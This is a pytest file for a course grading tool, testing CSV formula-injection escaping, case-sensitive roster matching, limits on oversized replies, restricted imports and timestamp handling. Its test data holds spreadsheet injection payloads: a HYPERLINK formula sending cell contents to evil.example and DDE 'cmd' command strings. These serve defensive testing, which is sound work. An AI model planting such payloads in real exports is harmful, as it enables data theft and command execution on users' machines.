"""The third hostile round: the edges of the grading core.

1. Every CSV the grader writes follows one rule against spreadsheet formula injection
   (CWE-1236), numbers staying numbers.
2. Student ids that differ only in case are never merged: exact matches, else an
   ambiguous match listed as such; every roster problem is one line and exit code 2,
   found before grading.
3. A reply too large for the channel fails that call alone, with a message about the
   return value, and leaves the channel usable.
4. The trusted runner imports nothing a student names: modules and exception classes
   come from tables fixed before grading.
5. Every unusable ``timestamp.txt`` (a folder included) gets its reason.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import subprocess
import sys
import threading
import warnings
from datetime import datetime
from pathlib import Path

import nbformat
import pytest

REPO = Path(__file__).resolve().parents[1]
HERE = Path(__file__).parent
TINY = REPO / "tests" / "fixtures" / "tiny_course"
TINY_SOURCE = TINY / "solutions" / "tiny" / "tiny.ipynb"

# What a spreadsheet may read as a formula: a cell that starts with one of these, or
# with blanks and then one of them.
FORMULA = re.compile(r"[\t\r\n]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    " =1+2",
    "\uff1d1+2",
    "a;=1+2",
]


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _assert_safe(path: Path) -> None:
    """No cell of ``path`` can start a formula, whatever separator a spreadsheet uses."""
    text = path.read_text(encoding="utf-8")
    for row in _cells(path):
        for cell in row:
            if NUMBER.fullmatch(cell):
                continue
            assert not FORMULA.match(cell), (path.name, cell)
            if ";" in cell or "\t" in cell:  # a semicolon locale would split it: quoted
                assert '"' + cell.replace('"', '""') + '"' in text, (path.name, cell)


# ------------------------------------------------------------------- 1. CSV cells
def test_the_csv_rule_escapes_formulas_and_keeps_numbers():
    from course_rnn.grading.csvsafe import safe_cell, write_csv

    for payload in PAYLOADS:
        assert not FORMULA.match(safe_cell(payload)), payload
        assert safe_cell(payload).endswith(payload.lstrip("\t\r"))
    for number in ("4.5", "-1.5", "+2", "0", "-0.25", "1e-3", "12345678"):
        assert safe_cell(number) == number
    assert safe_cell("") == "" and safe_cell("ada") == "ada" and safe_cell("-inf") == "'-inf"
    buffer = io.StringIO()
    write_csv(buffer, [["id", "score"], ["a;=1+2", "-1.5"], ['say "hi"', "3"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["id", "score"], ["a;=1+2", "-1.5"], ['say "hi"', "3"]]
    assert buffer.getvalue().splitlines()[1] == '"a;=1+2",-1.5'


CANVAS_HEAD = "Student,ID,SIS User ID,SIS Login ID,Section\n"


def _roster(tmp_path: Path, text: str, name: str = "roster.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8", newline="")
    return path


def test_lms_files_escape_every_roster_cell(tmp_path):
    from course_rnn.grading.lms import read_roster, write_lms_grades

    lines = [CANVAS_HEAD]
    for i, payload in enumerate(PAYLOADS):
        quoted = '"' + payload.replace('"', '""') + '"'
        lines.append(f"{quoted},{i},{quoted},s{i},{quoted}\n")
    lines.append(f'"{PAYLOADS[0].replace(chr(34), chr(34) * 2)}",99,,nobody,"\t=2+2"\n')
    roster = read_roster(_roster(tmp_path, "".join(lines)), "canvas")
    scores = {f"s{i}": -0.5 + i for i in range(len(PAYLOADS))}
    scores["ghost"] = 2.0
    export = write_lms_grades(tmp_path, "canvas", roster, scores, "=A1+1")
    _assert_safe(export.path)
    _assert_safe(export.unmatched_path)
    rows = _cells(export.path)
    assert rows[1][-1] == "-0.5" and rows[2][-1] == "0.5"  # scores stay numbers
    moodle_text = "First name,Last name,Username\n" + "".join(
        f'"{p.replace(chr(34), chr(34) * 2)}",x,s{i}\n' for i, p in enumerate(PAYLOADS)
    )
    moodle = read_roster(_roster(tmp_path, moodle_text, "moodle.csv"), "moodle")
    _assert_safe(write_lms_grades(tmp_path, "moodle", moodle, scores, "A1").path)


def test_grades_and_seeds_csv_escape_every_cell(tmp_path):
    from nbgrader.api import Gradebook
    from nbgrader.plugins.export import CsvExportPlugin
    from sqlalchemy.exc import SAWarning

    from course_rnn.grading import gradebook as gbk
    from course_rnn.grading.pipeline import _write_seeds

    db = f"sqlite:///{tmp_path}/gb.db"
    gbk.register_assignment(db, "tiny", {"tiny": TINY_SOURCE})
    with Gradebook(db) as gb:
        gb.update_or_create_student("amy", first_name="Amy", last_name="Smith, Jr")
        gb.update_or_create_student("bob", first_name="@SUM(1)", last_name="=1+2;x")
        with warnings.catch_warnings():  # nbgrader's autoflush warnings (harmless)
            warnings.simplefilter("ignore", SAWarning)
            for student in ("amy", "bob"):
                gb.update_or_create_submission("tiny", student)
        gb.find_submission("tiny", "bob").notebooks[0].late_submission_penalty = -1.5
        gb.db.commit()
        gbk.export_grades(gb, "tiny", tmp_path / "grades.csv")
        CsvExportPlugin(to=str(tmp_path / "plugin.csv"), assignment=["tiny"]).export(gb)
    _assert_safe(tmp_path / "grades.csv")
    rows = _cells(tmp_path / "grades.csv")
    header, amy, bob = rows
    assert all(len(r) == 11 for r in rows)  # a comma in a name stays in its cell
    amy, bob = dict(zip(header, amy, strict=True)), dict(zip(header, bob, strict=True))
    assert amy["last_name"] == "Smith, Jr" and bob["late_submission_penalty"] == "-1.5"
    # The values are nbgrader's own: same as its CsvExportPlugin where nothing is escaped.
    plugin = (tmp_path / "plugin.csv").read_text().splitlines()
    assert plugin[0].split(",") == header
    assert [l for l in plugin if l.split(",")[3] == "amy"][0] == ",".join(
        [*rows[1][:4], "Smith", " Jr", *rows[1][5:]]
    )
    _write_seeds(tmp_path / "seeds.csv", "=cmd;x", {"amy": 12, "bob": 34})
    _assert_safe(tmp_path / "seeds.csv")
    assert _cells(tmp_path / "seeds.csv")[1] == ["amy", "'=cmd;x", "12"]


# --------------------------------------------------------------- 2. rosters and ids
def test_ids_that_differ_only_in_case_are_never_merged_or_dropped(tmp_path):
    from course_rnn.grading.lms import read_roster, write_lms_grades

    scores = {"casey": 3.0, "Casey": 5.0}

    def export(*logins):
        text = CANVAS_HEAD + "".join(f"N{i},{i},S{i},{v},A\n" for i, v in enumerate(logins))
        roster = read_roster(_roster(tmp_path, text), "canvas")
        out = write_lms_grades(tmp_path, "canvas", roster, scores, "A1", key="SIS Login ID")
        grades = {r[3]: r[-1] for r in _cells(out.path)[1:]}
        unmatched = {r[0]: r for r in _cells(out.unmatched_path)[1:]} if out.unmatched_path else {}
        return out, grades, unmatched

    # Both in the roster: two exact matches.
    out, grades, unmatched = export("casey", "Casey")
    assert grades == {"casey": "3", "Casey": "5"} and unmatched == {}
    # Only one: it gets its own score; the other is listed, with its score, never dropped.
    out, grades, unmatched = export("casey")
    assert grades == {"casey": "3"}
    assert out.ambiguous == ["Casey"] and unmatched["Casey"][2] == "5"
    assert "case" in unmatched["Casey"][1]
    # A roster id that matches both only ignoring case: ambiguous, left blank.
    out, grades, unmatched = export("CASEY")
    assert grades == {"CASEY": ""}
    assert sorted(out.ambiguous) == ["CASEY", "Casey", "casey"]
    assert {k: v[2] for k, v in unmatched.items()} == {"casey": "3", "Casey": "5", "CASEY": ""}
    # One graded id, one roster id differing in case: still matched, as before.
    scores = {"alan": 4.0}
    out, grades, unmatched = export("Alan")
    assert grades == {"Alan": "4"} and out.ambiguous == [] and unmatched == {}
    # Case means ASCII case: the Kelvin sign is not a 'k'.
    scores = {"kate": 4.0}
    out, grades, unmatched = export("\u212aate")
    assert grades == {"\u212aate": ""} and out.not_in_roster == ["kate"]


def test_a_roster_over_the_csv_field_limit_is_a_one_line_error(tmp_path):
    from course_rnn.grading.lms import read_roster

    big = _roster(tmp_path, CANVAS_HEAD + '"' + "x" * (csv.field_size_limit() + 10) + '",1,S,s,A\n')
    with pytest.raises(ValueError) as info:
        read_roster(big, "canvas")
    assert "\n" not in str(info.value) and "field" in str(info.value)


def _tiny_submission(folder: Path, student: str) -> Path:
    """The tiny course's notebook, answered from the source (every autograded point)."""
    from nbgrader.preprocessors import ClearHiddenTests, ClearOutput, ClearSolutions

    source = nbformat.read(str(TINY_SOURCE), as_version=4)
    answers = {
        c.metadata["nbgrader"]["grade_id"]: c.source
        for c in source.cells
        if c.metadata.get("nbgrader", {}).get("solution")
    }
    nb, resources = source, {}
    for step in (ClearSolutions(), ClearHiddenTests(), ClearOutput()):
        nb, resources = step.preprocess(nb, resources)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
    path = folder / student / "tiny.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(path))
    return path


def _grade(tmp_path: Path, subs: Path, *extra: str) -> tuple[int, str, str]:
    from course_rnn.cli import main

    argv = ["grade", "tiny", str(subs), "--out", str(tmp_path / "out"), "--course-root"]
    argv += [str(TINY), "--db", f"sqlite:///{tmp_path}/gb.db", "--workers", "1", *extra]
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(argv)
    return code, out.getvalue(), err.getvalue()


@pytest.mark.grading
def test_roster_problems_stop_the_command_before_grading(tmp_path):
    subs = tmp_path / "subs"
    _tiny_submission(subs, "ada")
    good = _roster(tmp_path, CANVAS_HEAD + "Ada,1,S1,ada,A\n")
    big = _roster(tmp_path, CANVAS_HEAD + '"' + "x" * 200_000 + '",1,S,s,A\n', "big.csv")
    for roster, key in ((big, None), (good, "Login")):
        extra = ["--format", "canvas", "--roster", str(roster)]
        code, printed, err = _grade(tmp_path, subs, *extra, *(["--roster-key", key] if key else []))
        assert code == 2, (printed, err)
        assert err.count("\n") == 1 and err.startswith("course-rnn grade: "), err
        assert not (tmp_path / "out" / "grades.csv").exists(), "graded before the check"
    assert "'Login' is not a column" in err


# ---------------------------------------------------------- 3. replies too large
def _frame(header: bytes, buffers: list[bytes]) -> bytes:
    import struct

    parts = [struct.pack("!II", len(header), len(buffers)), header]
    for buf in buffers:
        parts += [struct.pack("!Q", len(buf)), buf]
    return b"".join(parts)


def _pipe_with(data: bytes) -> int:
    rfd, wfd = os.pipe()

    def feed():
        with contextlib.suppress(BrokenPipeError), os.fdopen(wfd, "wb") as fh:
            fh.write(data)

    threading.Thread(target=feed, daemon=True).start()
    return rfd


def test_an_oversized_frame_is_drained_and_the_next_one_reads(monkeypatch):
    from course_rnn.grading import remote

    monkeypatch.setattr(remote, "MAX_HEADER_BYTES", 10_000)
    big_text = b'{"k":"rep","a":"' + b"x" * 2_000_000 + b'"}'
    ok = _frame(b'{"k":"rep","a":7}', [])
    big_buffers = _frame(b'{"k":"rep","a":null}', [b"y" * 3000, b"z" * 3000])
    rfd = _pipe_with(_frame(big_text, [b"abc"]) + ok + big_buffers + ok)
    try:
        with pytest.raises(remote.ReplyTooLarge) as info:
            remote.read_frame(rfd, None)
        message = str(info.value)
        assert "2 MB" in message and "limit" in message, message
        assert "header" not in message and "buffer" not in message, message
        assert remote.read_frame(rfd, None) == ({"k": "rep", "a": 7}, [])  # in step
        with pytest.raises(remote.ReplyTooLarge):
            remote.read_frame(rfd, None, max_bytes=5000)
        assert remote.read_frame(rfd, None) == ({"k": "rep", "a": 7}, [])
    finally:
        os.close(rfd)


def test_builds_on_never_hides_a_channel_failure():
    from course_rnn.grading import remote
    from course_rnn.testing import builds_on

    for failure in (
        remote.ReplyTooLarge(100_000_000, 64 << 20),
        remote.ProtocolError("out of step"),
        remote.ChannelClosed("gone"),
        remote.ChannelTimeout("slow"),
    ):
        with pytest.raises(type(failure)):
            with builds_on("part 1", lambda: 1 / 0):
                raise failure

        def earlier(failure=failure):
            raise failure

        with pytest.raises(type(failure)):  # the check of the earlier part fails so too
            with builds_on("part 1", earlier):
                raise AssertionError("wrong")
    with pytest.raises(AssertionError, match="fix part 1 first"):  # unchanged otherwise
        with builds_on("part 1", lambda: 1 / 0):
            raise AssertionError("wrong")


@pytest.mark.grading
def test_an_oversized_reply_fails_that_call_alone(tmp_path):
    from test_grading_security import tiny  # the hostile fixture, loaded once

    from course_rnn.grading.executor import Limits, grade_notebook

    source = tiny.build_source()
    for cell in source.cells:  # test_scale builds on add, as the course's tests do
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "test_scale":
            body = "".join("    " + line for line in cell.source.splitlines(keepends=True))
            cell.source = (
                "from course_rnn.testing import builds_on\n"
                "with builds_on('part 1 (add)', lambda: add(1, 2)):\n" + body
            )
    source_path = tmp_path / "source" / "tiny.ipynb"
    source_path.parent.mkdir()
    nbformat.write(source, str(source_path))
    answers = {**tiny.ANSWERS, "scale_answer": "def scale(x, k):\n    return 'x' * 100_000_000\n"}
    student = tmp_path / "student" / "tiny.ipynb"
    student.parent.mkdir()
    nbformat.write(tiny.build_student(answers), str(student))
    limits = Limits(notebook_timeout_s=120, cell_timeout_s=60)
    result = grade_notebook(source_path, student, tmp_path / "work", limits)
    verdicts = {t.grade_id: (t.passed, t.message) for t in result.tests}
    assert [k for k, (ok, _) in verdicts.items() if not ok] == ["test_scale"], verdicts
    message = verdicts["test_scale"][1]
    assert "100 MB" in message and "limit" in message, message
    assert "header" not in message and "buffer" not in message, message
    assert sum(t.points for t in result.tests) == tiny.MAX_SCORE - tiny.POINTS["test_scale"]


# --------------------------------------------------------- 4. what the runner imports
def test_the_runner_imports_no_module_a_student_names():
    script = (
        "import sys\n"
        "from course_rnn.grading import runner\n"
        "from course_rnn.grading.remote import RemoteObject\n"
        "names = ['course_rnn.__main__', 'course_rnn.grading.cli', 'numpy.f2py', "
        "'json.tool', 'matplotlib.pyplot']\n"
        "for name in names:\n"
        "    proxy = RemoteObject(None, 1, 'module', '', name)\n"
        "    assert runner._bind(proxy) is proxy, name\n"
        "    assert name not in sys.modules, name\n"
        "import numpy, math\n"
        "assert runner._bind(RemoteObject(None, 2, 'module', '', 'numpy')) is numpy\n"
        "assert runner._bind(RemoteObject(None, 3, 'module', '', 'math')) is math\n"
        "print('ok')\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=300
    )
    assert done.stdout.strip() == "ok", done.stdout[-2000:] + done.stderr[-2000:]


def test_exception_classes_come_from_a_table_fixed_at_import(monkeypatch):
    import builtins

    from course_rnn.grading import remote

    class Planted(Exception):
        pass

    monkeypatch.setattr(builtins, "Planted", Planted, raising=False)
    err = remote.student_error("Planted", "Planted", "boom")
    assert not isinstance(err, Planted) and isinstance(err, remote.StudentCodeError)
    assert isinstance(remote.student_error("ValueError", "E", "x"), ValueError)


# -------------------------------------------------------------- 5. timestamps
def test_every_unusable_timestamp_gets_a_reason(tmp_path):
    from course_rnn.grading.submissions import discover

    nb = nbformat.writes(nbformat.v4.new_notebook())
    kinds = ["folder", "link", "fifo", "empty", "huge", "binary", "good"]
    for kind in kinds:
        folder = tmp_path / kind
        folder.mkdir()
        (folder / "tiny.ipynb").write_text(nb)
        stamp = folder / "timestamp.txt"
        if kind == "folder":
            stamp.mkdir()
        elif kind == "link":
            (tmp_path / "real.txt").write_text("2026-03-01 10:00:00 UTC")  # never followed
            stamp.symlink_to(tmp_path / "real.txt")
        elif kind == "fifo":
            os.mkfifo(stamp)
        elif kind == "empty":
            stamp.write_text("")
        elif kind == "huge":
            stamp.write_bytes(b"2026-03-01 10:00:00 UTC" + b" " * 10_000_000)
        elif kind == "binary":
            stamp.write_bytes(b"\x00\x01\xff\xfe2026-03-01 10:00:00 UTC")
        else:
            stamp.write_text("2026-03-01 10:00:00 UTC")
    subs, _ = discover(tmp_path, ["tiny"], "UTC")
    by_id = {s.student_id: s for s in subs}
    assert by_id["good"].timestamp == datetime(2026, 3, 1, 10)
    for kind in kinds[:-1]:
        sub = by_id[kind]
        notes = [n for n in sub.notes if "timestamp.txt" in n]
        assert sub.timestamp is None and len(notes) == 1, (kind, sub.notes)
        assert notes[0].startswith("timestamp.txt ignored: "), (kind, notes)
    assert "folder" in [n for n in by_id["folder"].notes if "timestamp" in n][0]


@pytest.mark.grading
def test_lms_and_timestamp_reasons_through_grade(tmp_path):
    """One class: formula cells in the roster, ids differing in case, a folder for a
    timestamp; the import file is safe, nobody is merged, the reason reaches feedback
    and the report."""
    subs = tmp_path / "subs"
    for student in ("casey", "Casey", "stamp"):
        _tiny_submission(subs, student)
    (subs / "stamp" / "timestamp.txt").mkdir()
    roster = _roster(
        tmp_path,
        CANVAS_HEAD
        + '"=HYPERLINK(""http://x/"",""y"")",1,S1,casey,"\t=1+2"\n'
        + '"@SUM(1)",2,S2,stamp,"-2+3"\n',
    )
    extra = ["--format", "canvas", "--roster", str(roster), "--due", "2026-03-01T00:00"]
    code, printed, err = _grade(tmp_path, subs, *extra, "--late-penalty", "10%/day")
    assert code == 0, err
    out = tmp_path / "out"
    for name in ("canvas_grades.csv", "canvas_unmatched.csv", "grades.csv", "seeds.csv"):
        _assert_safe(out / name)
    grades = {r[3]: r[-1] for r in _cells(out / "canvas_grades.csv")[1:]}
    assert grades == {"casey": "5", "stamp": "5"}
    unmatched = {r[0]: r for r in _cells(out / "canvas_unmatched.csv")[1:]}
    assert unmatched["Casey"][2] == "5" and "case" in unmatched["Casey"][1]
    assert "Casey" in printed
    reason = "timestamp.txt ignored"
    assert reason in (out / "feedback" / "stamp" / "tiny" / "tiny.html").read_text()
    assert reason in (out / "report.md").read_text()
    assert reason in printed
